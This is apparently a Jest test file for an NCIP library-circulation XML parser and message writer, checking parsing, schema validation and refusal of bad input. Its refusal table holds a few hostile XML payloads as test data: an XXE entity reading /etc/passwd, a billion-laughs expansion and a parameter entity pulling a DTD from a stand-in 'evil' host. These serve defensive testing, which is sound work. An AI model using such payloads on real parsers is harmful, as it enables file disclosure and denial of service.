import { ncipSamples, ncipSchemaErrors } from '@app/testing';
import {
  itemIdEl,
  lookupVersionResponse,
  problemEl,
  ProblemSchemes,
  readAuthentication,
  readItemId,
  readRequest,
  readRequestId,
  readUserId,
  requestIdEl,
  requestMessage,
  responseMessage,
  SUPPORTED_SERVICES,
  topLevelProblem,
  userIdEl,
} from './ncip-message';
import { buildXml, el, parseXml, XmlRefused } from './ncip-xml';

jest.setTimeout(60_000); // xmllint (WebAssembly) is slow on a busy machine

const header = { from: 'CN-320583-1-KSL', to: 'CN-320585-1-TCL' };

describe('NCIP reader', () => {
  it.each(ncipSamples())('reads sample %s', (_name, xml) => {
    const req = readRequest(parseXml(xml));
    expect(req.service).toMatch(/^[A-Z][A-Za-z]+$/);
  });

  it('reads FOLIO without a namespace, elements out of order, no Scheme', () => {
    const xml = ncipSamples().find(([n]) => n.includes('19-'))![1];
    const req = readRequest(parseXml(xml));
    expect(req).toMatchObject({ service: 'RequestItem', fromAgency: 'Relais', toAgency: 'Lehigh University' });
    expect(readUserId(req.node)).toEqual({ value: '8377630', type: 'barcode', agency: undefined });
    expect(readRequestId(req.node)?.value).toBe('requestId1');
    expect(readItemId(req.node)?.value).toBe('item1');
  });

  it('reads a bare DOCTYPE, BOM, whitespace and another prefix', () => {
    const xml = `\uFEFF  \n<?xml version="1.0"?>\n<!DOCTYPE NCIPMessage PUBLIC "-//NISO//NCIP DTD Version 1//EN" "http://www.niso.org/ncip/v1_0/imp1/dtd/ncip_v1_0.dtd">
      <x:NCIPMessage xmlns:x="http://www.niso.org/2008/ncip" version="2"><x:LookupUser><x:InitiationHeader><x:ToAgencyId><x:AgencyId>KSL</x:AgencyId></x:ToAgencyId>
      <x:FromAgencyId><x:AgencyId>TCL</x:AgencyId></x:FromAgencyId></x:InitiationHeader>
      <x:AuthenticationInput><x:AuthenticationInputType>PIN</x:AuthenticationInputType><x:AuthenticationInputData>1 &amp; 2</x:AuthenticationInputData></x:AuthenticationInput>
      <x:AuthenticationInput><x:AuthenticationInputData>P0000001</x:AuthenticationInputData><x:AuthenticationDataFormatType>text/plain</x:AuthenticationDataFormatType><x:AuthenticationInputType>Barcode Id</x:AuthenticationInputType></x:AuthenticationInput>
      </x:LookupUser></x:NCIPMessage>`;
    const req = readRequest(parseXml(xml));
    expect(req).toMatchObject({ service: 'LookupUser', fromAgency: 'TCL', toAgency: 'KSL' });
    expect(readAuthentication(req.node)).toEqual({ barcode: 'P0000001', pin: '1 & 2' });
  });

  it.each([
    [
      'XXE',
      '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><NCIPMessage>&x;</NCIPMessage>',
      'doctype_subset',
    ],
    [
      'billion laughs',
      '<!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><NCIPMessage>&b;</NCIPMessage>',
      'doctype_subset',
    ],
    [
      'parameter entity',
      '<!DOCTYPE l [ <!ENTITY % p SYSTEM "http://evil/x.dtd"> %p; ]><NCIPMessage/>',
      'doctype_subset',
    ],
    ['not well-formed', '<NCIPMessage><LookupUser></NCIPMessage>', 'not_well_formed'],
    ['not XML', '{"json": true}', 'not_well_formed'],
    ['empty', ' \uFEFF ', 'empty'],
    ['too deep', `${'<a>'.repeat(200)}${'</a>'.repeat(200)}`, 'too_deep'],
  ])('refuses %s', (_name, xml, reason) => {
    expect(() => parseXml(xml)).toThrow(XmlRefused);
    try {
      parseXml(xml);
    } catch (e) {
      expect((e as XmlRefused).reason).toBe(reason);
    }
  });

  it('refuses an oversized message before parsing', () => {
    const big = `<NCIPMessage>${'<Ext/>'.repeat(50_000)}</NCIPMessage>`;
    expect(() => parseXml(big, { maxBytes: 100_000, maxDepth: 32 })).toThrow(/larger than 100000 bytes/);
  });

  it('leaves entities it does not know as text (never expands)', () => {
    expect(parseXml('<a>&ent; &lt;b&gt; &#x4e2d;</a>').text).toBe('&ent; <b> 中');
  });
});

describe('NCIP writer output validates against the XSD', () => {
  const bodies: Record<string, ReturnType<typeof el>[]> = {
    LookupUser: [
      userIdEl({ agency: 'CN-320583-1-KSL', type: 'Barcode', value: 'P0000001' }),
      el('UserOptionalFields', [
        el('NameInformation', [el('PersonalNameInformation', [el('UnstructuredPersonalUserName', '张三 & <co>')])]),
        el('UserPrivilege', [
          el('AgencyId', 'CN-320583-1-KSL'),
          el('AgencyUserPrivilegeType', 'adult'),
          el('ValidToDate', '2028-12-31T15:59:59Z'),
          el('UserPrivilegeStatus', [el('UserPrivilegeStatusType', 'Active')]),
        ]),
        el('BlockOrTrap', [el('AgencyId', 'CN-320583-1-KSL'), el('BlockOrTrapType', 'card_lost')]),
      ]),
    ],
    LookupItem: [
      itemIdEl({ agency: 'CN-320583-1-KSL', type: 'Barcode', value: 'B1' }),
      el('ItemOptionalFields', [
        el('BibliographicDescription', [el('Author', 'a'), el('Title', 't')]),
        el('CirculationStatus', 'On Loan'),
        el('DateDue', '2026-12-25T15:59:59.000Z'),
      ]),
    ],
    CheckOutItem: [itemIdEl({ value: 'B1' }), userIdEl({ value: 'P1' }), el('DateDue', '2026-12-25T15:59:59.000Z')],
    CheckInItem: [itemIdEl({ value: 'B1' }), userIdEl({ value: 'P1' })],
    RenewItem: [
      itemIdEl({ value: 'B1' }),
      userIdEl({ value: 'P1' }),
      el('DateDue', '2026-12-25T15:59:59.000Z'),
      el('RenewalCount', '1'),
    ],
    RequestItem: [
      requestIdEl({ agency: 'X', value: 'r1' }),
      itemIdEl({ value: 'B1' }),
      userIdEl({ value: 'P1' }),
      el('RequestType', 'Loan'),
      el('RequestScopeType', 'Item'),
    ],
    CancelRequestItem: [requestIdEl({ value: 'r1' }), userIdEl({ value: 'P1' })],
    AcceptItem: [requestIdEl({ value: 'r1' }), itemIdEl({ agency: 'CN-320585-1-TCL', value: 'T1' })],
    RecallItem: [itemIdEl({ value: 'B1' }), el('DateDue', '2026-12-25T15:59:59.000Z')],
    DeleteItem: [itemIdEl({ value: 'B1' })],
  };

  it.each(Object.keys(bodies))('%sResponse (prefixed and default namespace)', async (service) => {
    for (const style of ['prefixed', 'default'] as const) {
      expect(await ncipSchemaErrors(buildXml(responseMessage(service, header, bodies[service]), style))).toEqual([]);
    }
  });

  it.each(Object.keys(bodies))('%sResponse with a Problem', async (service) => {
    const xml = buildXml(
      responseMessage(service, header, [
        problemEl({
          type: 'Unknown Item',
          scheme: ProblemSchemes.general,
          detail: 'd',
          element: 'ItemId',
          value: 'B<1>',
        }),
      ]),
    );
    expect(await ncipSchemaErrors(xml)).toEqual([]);
  });

  it('a top-level Problem and the LookupVersionResponse', async () => {
    expect(
      await ncipSchemaErrors(
        buildXml(
          topLevelProblem([
            { type: 'Agency Authentication Failed', element: 'InitiationHeader/FromAgencyId/AgencyId', value: 'X' },
          ]),
        ),
      ),
    ).toEqual([]);
    expect(await ncipSchemaErrors(buildXml(lookupVersionResponse(header, SUPPORTED_SERVICES), 'none'))).toEqual([]);
  });

  it('requests we send validate too', async () => {
    const xml = buildXml(
      requestMessage('CheckOutItem', header, [
        userIdEl({ agency: 'CN-320585-1-TCL', value: 'TCL0001' }),
        itemIdEl({ agency: 'CN-320583-1-KSL', value: 'B1' }),
      ]),
    );
    expect(await ncipSchemaErrors(xml)).toEqual([]);
  });

  it('the validator does reject a wrong document (the check can fail)', async () => {
    const wrong = buildXml(
      responseMessage('CheckOutItem', header, [userIdEl({ value: 'P1' }), itemIdEl({ value: 'B1' })]),
    );
    expect((await ncipSchemaErrors(wrong)).length).toBeGreaterThan(0);
  });
});
